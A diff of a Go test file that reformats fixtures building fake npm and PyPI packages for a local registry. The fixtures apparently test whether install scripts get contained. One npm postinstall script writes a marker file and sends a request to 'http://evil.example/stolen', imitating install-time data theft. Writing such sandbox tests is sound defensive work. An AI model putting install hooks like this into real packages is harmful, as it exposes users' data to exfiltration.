@@ -47,9 +47,19 @@ func nodePackage(t *testing.T, version string) (archive []byte, integrity string
 	z := gzip.NewWriter(&out)
 	w := tar.NewWriter(z)
 	for _, f := range [][2]string{
-		{"package/package.json", `{"name":"left-shop","version":"` + version + `","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
+		{
+			"package/package.json",
+			`{"name":"left-shop","version":"` + version +
+				`","main":"index.js","scripts":{"postinstall":"node post.js"}}`,
+		},
 		{"package/index.js", "module.exports = 'hello' + '" + strings.TrimPrefix(version, "1.0.0") + "';\n"},
-		{"package/post.js", "require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\nconst r = require('http').request({host: '127.0.0.1', port: new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () => process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n"},
+		{
+			"package/post.js",
+			"require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\n" +
+				"const r = require('http').request({host: '127.0.0.1', port: " +
+				"new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () " +
+				"=> process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n",
+		},
 	} {
 		require.NoError(t, w.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1]))}))
 		_, _ = w.Write([]byte(f[1]))
@@ -67,9 +77,17 @@ func (r registry) addNode(t *testing.T, versions ...string) {
 		archive, integrity := nodePackage(t, v)
 		file := "/npm/left-shop/-/left-shop-" + v + ".tgz"
 		r.Give(file, archive)
-		all[v] = map[string]any{"name": "left-shop", "version": v, "dist": map[string]string{"tarball": "http://" + registryHost + file, "integrity": integrity}}
+		all[v] = map[string]any{
+			"name":    "left-shop",
+			"version": v,
+			"dist":    map[string]string{"tarball": "http://" + registryHost + file, "integrity": integrity},
+		}
 	}
-	about, err := json.Marshal(map[string]any{"name": "left-shop", "dist-tags": map[string]string{"latest": versions[len(versions)-1]}, "versions": all})
+	about, err := json.Marshal(map[string]any{
+		"name":      "left-shop",
+		"dist-tags": map[string]string{"latest": versions[len(versions)-1]},
+		"versions":  all,
+	})
 	require.NoError(t, err)
 	r.Give("/npm/left-shop", about)
 }
@@ -80,16 +98,24 @@ func nodeFiles(t *testing.T, dir string) files {
 	lock := map[string]any{
 		"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
 		"packages": map[string]any{
-			"": map[string]any{"name": "shop", "version": "1.0.0", "dependencies": map[string]string{"left-shop": "1.0.0"}},
+			"": map[string]any{
+				"name":         "shop",
+				"version":      "1.0.0",
+				"dependencies": map[string]string{"left-shop": "1.0.0"},
+			},
 			"node_modules/left-shop": map[string]any{
-				"version": "1.0.0", "resolved": "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz", "integrity": integrity, "hasInstallScript": true,
+				"version":          "1.0.0",
+				"resolved":         "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz",
+				"integrity":        integrity,
+				"hasInstallScript": true,
 			},
 		},
 	}
 	text, err := json.Marshal(lock)
 	require.NoError(t, err)
 	return files{
-		dir + "package.json":      `{"name":"shop","version":"1.0.0","dependencies":{"left-shop":"1.0.0"},"scripts":{"test":"node --test","preinstall":"touch /packages/go/ran"}}`,
+		dir + "package.json": `{"name":"shop","version":"1.0.0","dependencies":{"left-shop":"1.0.0"},` +
+			`"scripts":{"test":"node --test","preinstall":"touch /packages/go/ran"}}`,
 		dir + "package-lock.json": string(text),
 		dir + "index.js":          "console.log(require('left-shop'));\n",
 	}
@@ -104,17 +130,21 @@ func (r registry) addPython(t *testing.T, versions ...string) {
 	}
 	var links []string
 	for _, v := range versions {
-		wheel, name := pythonWheel(t, v), "left_shop-"+v+"-py3-none-any.whl"
+		wheel := pythonWheel(t, v)
+		name := "left_shop-" + v + "-py3-none-any.whl"
 		r.Give("/pypi/"+name, wheel)
-		links = append(links, fmt.Sprintf(`<a href="../%s#sha256=%x">%s</a>`, name, sha256.Sum256(wheel), name))
+		links = append(links,
+			fmt.Sprintf(`<a href="../%s#sha256=%x">%s</a>`, name, sha256.Sum256(wheel), name))
 	}
 	r.Give("/pypi/left-shop/", page(links...))
 
 	var source bytes.Buffer
 	gz := gzip.NewWriter(&source)
 	tw := tar.NewWriter(gz)
-	text := "import os, pathlib\npathlib.Path(os.environ['PACKAGES'] + '/go/ran').write_text('x')\nfrom setuptools import setup\nsetup(name='old-shop', version='1.0.0')\n"
-	require.NoError(t, tw.WriteHeader(&tar.Header{Name: "old_shop-1.0.0/setup.py", Mode: 0o644, Size: int64(len(text))}))
+	text := "import os, pathlib\npathlib.Path(os.environ['PACKAGES'] + '/go/ran').write_text('x')\n" +
+		"from setuptools import setup\nsetup(name='old-shop', version='1.0.0')\n"
+	require.NoError(t,
+		tw.WriteHeader(&tar.Header{Name: "old_shop-1.0.0/setup.py", Mode: 0o644, Size: int64(len(text))}))
 	_, _ = tw.Write([]byte(text))
 	require.NoError(t, errors.Join(tw.Close(), gz.Close()))
 	r.Give("/pypi/old_shop-1.0.0.tar.gz", source.Bytes())
@@ -128,7 +158,10 @@ func pythonWheel(t *testing.T, version string) []byte {
 	var record strings.Builder
 	about := "left_shop-" + version + ".dist-info/"
 	for _, f := range [][2]string{
-		{"left_shop/__init__.py", "HELLO = 'hello" + strings.TrimPrefix(version, "1.0.0") + "'\n\ndef main():\n    print(HELLO)\n"},
+		{
+			"left_shop/__init__.py",
+			"HELLO = 'hello" + strings.TrimPrefix(version, "1.0.0") + "'\n\ndef main():\n    print(HELLO)\n",
+		},
 		{about + "entry_points.txt", "[console_scripts]\nleft-shop = left_shop:main\n"},
 		{about + "METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: " + version + "\n"},
 		{about + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
